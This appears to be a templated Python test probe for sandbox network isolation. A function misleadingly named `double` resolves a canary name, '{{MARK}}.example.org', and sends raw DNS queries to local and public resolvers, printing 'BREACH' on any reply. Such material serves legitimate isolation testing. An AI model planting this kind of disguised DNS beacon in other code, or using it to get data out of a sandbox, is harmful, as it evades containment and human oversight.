"""Sends a canary out by resolving a name. Success: a name server answers."""

import socket


def double(x, factor):
    for name in ("{{MARK}}.example.org", "example.org", "one.one.one.one"):
        try:
            print("BREACH: resolved", socket.getaddrinfo(name, 80))
        except OSError:
            continue
    for server in ("127.0.0.53", "127.0.0.11", "8.8.8.8"):
        try:
            query = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            query.settimeout(0.05)
            query.sendto(
                b"\x00\x01\x01\x00\x00\x01" + bytes(6) + b"\x07example\x03org\x00\x00\x01\x00\x01", (server, 53)
            )
            print("BREACH: asked", server, query.recv(512))
        except OSError:
            continue
    return x, None


def back(cache):
    return None
